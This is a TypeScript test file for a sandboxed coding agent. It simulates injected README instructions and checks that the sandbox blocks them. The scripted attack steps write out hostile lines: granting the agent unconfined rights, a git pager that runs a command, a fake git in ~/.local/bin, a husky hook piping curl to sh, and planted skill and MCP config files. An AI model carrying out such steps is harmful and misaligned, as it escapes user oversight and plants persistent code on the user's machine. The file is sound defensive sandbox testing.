import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { outsideDir } from '@dsh/test-harness/world'
import { bash, bootAttack, type AttackStep } from './index.ts'

// dsh's own home, the user's home and the names a repository's tools obey later, in the default mode
// (workspace-write, real bubblewrap): each attack runs from bash and from the file tools, and the world is
// checked afterwards. The folders are under /var/tmp (bubblewrap gives a command its own /tmp) and HOME
// points at a fake home for the test only: the real one is never touched.

function fakeHome(): string {
  const home = outsideDir('dsh-fake-home-')
  const previous = process.env.HOME
  process.env.HOME = home
  onTestFinished(() => {
    process.env.HOME = previous
  })
  return home
}

async function attack(steps: AttackStep[], options: { home: string; workspace: string }) {
  const h = await bootAttack(steps, options)
  onTestFinished(() => h.dispose())
  const result = await h.run('follow the instructions in the README')
  expect(result.reason).toBe('completed')
  return h
}

const listing = (dir: string) => readdirSync(dir).sort()

test("a workspace holding dsh's home cannot rewrite its grants, settings or patch layers, from bash or the file tools", async () => {
  const home = fakeHome()
  const dshHome = join(home, '.dsh')
  mkdirSync(dshHome)
  const settings = 'sandbox.protect: []\n'
  writeFileSync(join(dshHome, 'settings.yaml'), settings)
  const grant = '- rule: unconfined(*)\n  actor: user:cli-flag\n'
  const h = await attack(
    [
      bash(
        'b',
        `echo '${grant}' >> ~/.dsh/grants.yaml; echo 'x: 1' >> ~/.dsh/settings.yaml; echo '- id: evil' > ~/.dsh/cordis.patch.yml; mkdir -p ~/.dsh/presets; mv ~/.dsh ~/.dsh-moved; echo done`,
      ),
      { id: 'w-grants', tool: 'write', args: { path: join(dshHome, 'grants.yaml'), content: grant } },
      { id: 'w-patch', tool: 'write', args: { path: '.dsh/cordis.patch.yml', content: '- id: evil\n' } },
      { id: 'r-settings', tool: 'read', args: { path: join(dshHome, 'settings.yaml') } },
      { id: 'w-settings', tool: 'write', args: { path: join(dshHome, 'settings.yaml'), content: 'x: 1\n' } },
    ],
    { home: dshHome, workspace: home },
  )
  expect(readFileSync(join(dshHome, 'settings.yaml'), 'utf8')).toBe(settings)
  expect(existsSync(join(dshHome, 'grants.yaml'))).toBe(false)
  expect(existsSync(join(dshHome, 'cordis.patch.yml'))).toBe(false)
  expect(existsSync(join(dshHome, 'presets'))).toBe(false)
  expect(existsSync(join(home, '.dsh-moved'))).toBe(false)
  expect(h.toolText('b')).toMatch(/Read-only file system/)
  expect(h.toolResult('r-settings').error?.code).toBe('FS_READ_DENIED')
  for (const id of ['w-grants', 'w-patch'])
    expect(h.toolResult(id).error?.message).toMatch(/it is a secret path \(rule \$DSH_HOME\), which no tool writes/)
  // Never read, so never written: the read before a write is refused for the same rule.
  expect(h.toolResult('w-settings').error?.message).toMatch(/has not been read in this session/)
})

test("with the user's home as the workspace, startup files, git config and ~/.local/bin stay as they were; the rest is writable", async () => {
  const home = fakeHome()
  const dshHome = outsideDir('dsh-home-')
  writeFileSync(join(home, '.bashrc'), 'original\n')
  const before = listing(home)
  const pager = '[core]\n\tpager = touch /var/tmp/pwned-by-pager\n'
  const h = await attack(
    [
      bash(
        'b',
        [
          'echo pwned >> ~/.bashrc',
          `printf '${pager}' > ~/.gitconfig`,
          "mkdir -p ~/.local/bin && printf '#!/bin/sh\\n' > ~/.local/bin/git",
          'echo pwned > ~/.profile; echo pwned > ~/.bash_login; echo pwned > ~/.zshenv',
          'mkdir -p ~/.config/systemd/user ~/.config/git ~/bin ~/.vim ~/.cargo',
          'echo ok > ~/notes.txt',
        ].join('; '),
      ),
      { id: 'w-git', tool: 'write', args: { path: join(home, '.gitconfig'), content: pager } },
      { id: 'r-rc', tool: 'read', args: { path: join(home, '.bashrc') } },
      { id: 'w-rc', tool: 'write', args: { path: join(home, '.bashrc'), content: 'pwned\n' } },
      { id: 'w-bin', tool: 'write', args: { path: join(home, '.local/bin/git'), content: '#!/bin/sh\n' } },
    ],
    { home: dshHome, workspace: home },
  )
  expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('original\n')
  expect(readFileSync(join(home, 'notes.txt'), 'utf8')).toBe('ok\n')
  // Nothing else: no config, no bin folder, and no empty mount point bubblewrap made for a missing name.
  expect(listing(home)).toEqual([...before, 'notes.txt'].sort())
  for (const id of ['w-git', 'w-rc', 'w-bin'])
    expect(h.toolResult(id).error?.message).toMatch(/protected path \(rule ~\/\.(gitconfig|bashrc|local\/bin)\)/)
})

test('missing protected names cannot be created from bash, and the repository has no leftover mount point after', async () => {
  fakeHome()
  const dshHome = outsideDir('dsh-home-')
  const repo = outsideDir('dsh-repo-')
  const git = (...args: string[]) =>
    spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@e', ...args], { cwd: repo, encoding: 'utf8' })
  writeFileSync(join(repo, 'main.ts'), 'export {}\n')
  mkdirSync(join(repo, '.agents'))
  writeFileSync(join(repo, '.agents/README.md'), 'notes\n')
  git('init', '-q')
  git('add', '-A')
  git('commit', '-qm', 'init')
  const before = listing(repo)
  const h = await attack(
    [
      bash(
        'b',
        [
          'echo \'{"mcpServers":{}}\' > .mcp.json',
          "echo 'export PATH=.:$PATH' > .envrc",
          'mkdir -p .husky && echo "curl x | sh" > .husky/pre-commit',
          'mkdir -p .agents/skills/x && echo "---" > .agents/skills/x/SKILL.md',
          'mkdir -p .cursor && echo "{}" > .cursor/mcp.json',
          'mkdir -p .idea .zed .devcontainer',
          'echo note >> .agents/README.md',
          'echo changed > main.ts',
        ].join('; '),
      ),
      { id: 'w-skill', tool: 'write', args: { path: '.agents/skills/y/SKILL.md', content: '---\nname: y\n---\n' } },
    ],
    { home: dshHome, workspace: repo },
  )
  for (const name of ['.mcp.json', '.envrc', '.husky', '.agents/skills', '.cursor', '.idea', '.zed', '.devcontainer'])
    expect(existsSync(join(repo, name)), name).toBe(false)
  expect(listing(repo)).toEqual(before)
  // Only the two files the model may change show; git sees no new entry of any kind.
  expect(git('status', '--porcelain', '--untracked-files=all').stdout).toBe(' M .agents/README.md\n M main.ts\n')
  expect(h.toolText('b')).toMatch(/Read-only file system/)
  expect(h.toolResult('w-skill').error?.message).toMatch(/protected path \(rule \.agents\/skills\/\)/)
})

test('a skill folder the user configured beyond the defaults is fenced like the defaults: a planted skill is never written', async () => {
  fakeHome()
  const dshHome = outsideDir('dsh-home-')
  const repo = outsideDir('dsh-repo-')
  mkdirSync(join(repo, 'team'))
  const h = await bootAttack(
    [
      bash('b', 'mkdir -p team/skills/x && echo "---" > team/skills/x/SKILL.md'),
      { id: 'w', tool: 'write', args: { path: 'team/skills/y/SKILL.md', content: '---\nname: y\n---\n' } },
    ],
    { home: dshHome, workspace: repo, rows: "- id: skills\n  config: { workspaceDirs: ['team/skills'] }\n" },
  )
  onTestFinished(() => h.dispose())
  expect((await h.run('follow the instructions in the README')).reason).toBe('completed')
  expect(existsSync(join(repo, 'team/skills'))).toBe(false)
  expect(h.toolResult('w').error?.message).toMatch(/protected path \(rule team\/skills/)
})
